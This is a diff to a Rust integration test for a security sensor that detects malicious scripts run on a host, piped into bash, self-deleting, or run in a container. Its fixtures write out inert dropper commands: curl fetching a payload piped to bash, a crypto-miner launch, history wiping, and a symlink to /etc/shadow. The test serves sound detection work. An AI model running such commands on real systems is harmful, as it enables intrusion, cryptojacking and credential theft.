@@ -19,6 +19,14 @@ nohup /tmp/.x -o stratum+tcp://127.0.0.1:3333 -u wallet >/dev/null 2>&1 &\n\
 (crontab -l 2>/dev/null; echo \"* * * * * curl -s http://127.0.0.1:9/s.sh | bash\") | crontab -\n\
 history -c; rm -f ~/.bash_history\n";
 
+/// Piped into bash (inert: exits first).
+const PIPED: &str =
+    "exit 0; curl -fsSL http://127.0.0.1:9/x.sh -o /tmp/.piped | bash; chmod +x /tmp/.piped; /tmp/.piped\n";
+
+fn shell_quote(s: &str) -> String {
+    format!("'{}'", s.replace('\'', "'\\''"))
+}
+
 fn repo() -> &'static Path {
     Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/.."))
 }
@@ -105,7 +113,7 @@ fn script_path(f: &Value) -> Option<&str> {
 
 /// Wait (bounded) until `want` holds for the findings so far.
 fn wait_for(path: &Path, want: impl Fn(&[Value]) -> bool) -> Vec<Value> {
-    let deadline = Instant::now() + Duration::from_secs(60);
+    let deadline = Instant::now() + Duration::from_secs(120);
     loop {
         let all = findings(path);
         if want(&all) || Instant::now() > deadline {
@@ -171,19 +179,61 @@ fn sensor_run_finds_malicious_scripts_on_the_host_and_in_a_container() {
         // `bash -n` reads and parses without running anything.
         let _ = Command::new("/bin/bash").arg("-n").arg(script).output();
     }
+    // Never on disk: a script piped into bash, and one that deletes itself
+    // before the sensor could read it: only the kernel's copy of what bash
+    // read has them.
+    run(Command::new("/bin/bash")
+        .arg("-c")
+        .arg(format!("printf '%s' {} | /bin/bash", shell_quote(PIPED))));
+    let self_deleting = work.join("self-deleting.sh");
+    std::fs::write(
+        &self_deleting,
+        DROPPER.replacen(
+            "exit 0",
+            &format!("rm -f {}\nexit 0", self_deleting.display()),
+            1,
+        ),
+    )
+    .unwrap();
+    run(Command::new("/bin/bash").arg(&self_deleting));
     // Container: a dropper written and run inside it, and a script path that
     // is a symlink to /etc/shadow (the container's, never the host's).
     let name = format!("sensor-live-{}", std::process::id());
-    let inside = "printf '#!/bin/bash\\nexit 0\\ncurl -fsSL http://127.0.0.1:9/x.sh | bash; chmod +x /tmp/.k; nohup /tmp/.k -o stratum+tcp://127.0.0.1:3333 &\\nhistory -c\\n' > /tmp/job.sh \
-        && bash /tmp/job.sh && ln -s /etc/shadow /tmp/link.sh && (bash /tmp/link.sh 2>/dev/null; true)";
+    // Paths unique to this run; the container lives on a few seconds so that
+    // its namespace is still there however busy the machine is.
+    let job_path = format!("/tmp/job-{}.sh", std::process::id());
+    let link_path = format!("/tmp/link-{}.sh", std::process::id());
+    let inside = format!(
+        "printf '#!/bin/bash\\nexit 0\\ncurl -fsSL http://127.0.0.1:9/x.sh | bash; chmod +x /tmp/.k; nohup /tmp/.k -o stratum+tcp://127.0.0.1:3333 &\\nhistory -c\\n' > {job_path} \
+         && bash {job_path} && ln -s /etc/shadow {link_path} && (bash {link_path} 2>/dev/null; true) && sleep 5"
+    );
     run(Command::new("podman").args([
-        "run", "--rm", "--runtime", "runc", "--name", &name, "--label", "suite=run_live", &image,
-        "bash", "-c", inside,
+        "run",
+        "--rm",
+        "--runtime",
+        "runc",
+        "--name",
+        &name,
+        "--label",
+        "suite=run_live",
+        &image,
+        "bash",
+        "-c",
+        &inside,
     ]));
 
+    let piped = |f: &Value| {
+        f.pointer("/finding/processes/0/script/contents")
+            .and_then(Value::as_str)
+            .is_some_and(|c| c.contains("/tmp/.piped"))
+    };
     let seen = wait_for(&output, |all| {
         all.iter().any(|f| script_path(f) == dropper.to_str())
-            && all.iter().any(|f| script_path(f) == Some("/tmp/job.sh"))
+            && all
+                .iter()
+                .any(|f| script_path(f) == Some(job_path.as_str()))
+            && all.iter().any(|f| script_path(f) == self_deleting.to_str())
+            && all.iter().any(piped)
     });
     let summary = sensor.stop();
     eprintln!("summary: {summary}");
@@ -202,11 +252,28 @@ fn sensor_run_finds_malicious_scripts_on_the_host_and_in_a_container() {
 
     let job = all
         .iter()
-        .find(|f| script_path(f) == Some("/tmp/job.sh"))
+        .find(|f| script_path(f) == Some(job_path.as_str()))
         .unwrap_or_else(|| panic!("no finding for the container script in {all:#?}"));
     let container = &job["finding"]["containers"][0];
     assert_eq!(container["name"], name.as_str(), "{job:#}");
     assert_eq!(container["uri"], image.as_str(), "{job:#}");
+
+    let piped_finding = all
+        .iter()
+        .find(|f| piped(f))
+        .unwrap_or_else(|| panic!("no finding for the piped script in {all:#?}"));
+    assert_eq!(
+        piped_finding["finding"]["category"],
+        "Malicious Script Executed"
+    );
+    let deleted = all
+        .iter()
+        .find(|f| script_path(f) == self_deleting.to_str())
+        .unwrap_or_else(|| panic!("no finding for the self-deleting script in {all:#?}"));
+    assert!(deleted["finding"]["processes"][0]["script"]["contents"]
+        .as_str()
+        .unwrap()
+        .contains("stratum+tcp://127.0.0.1:3333"));
 
     for script in &benign {
         assert!(
@@ -225,9 +292,13 @@ fn sensor_run_finds_malicious_scripts_on_the_host_and_in_a_container() {
         .collect();
     let link = records
         .iter()
-        .find(|r| r.pointer("/enrichment/script/path").and_then(Value::as_str) == Some("/tmp/link.sh"))
+        .find(|r| {
+            r.pointer("/enrichment/script/path").and_then(Value::as_str) == Some(link_path.as_str())
+        })
         .expect("the symlinked script was recorded");
-    let contents = link["enrichment"]["script"]["contents"].as_str().unwrap_or("");
+    let contents = link["enrichment"]["script"]["contents"]
+        .as_str()
+        .unwrap_or("");
     assert!(contents.starts_with("root:"), "{contents}");
     if let Ok(host_shadow) = std::fs::read_to_string("/etc/shadow") {
         assert_ne!(contents, host_shadow);
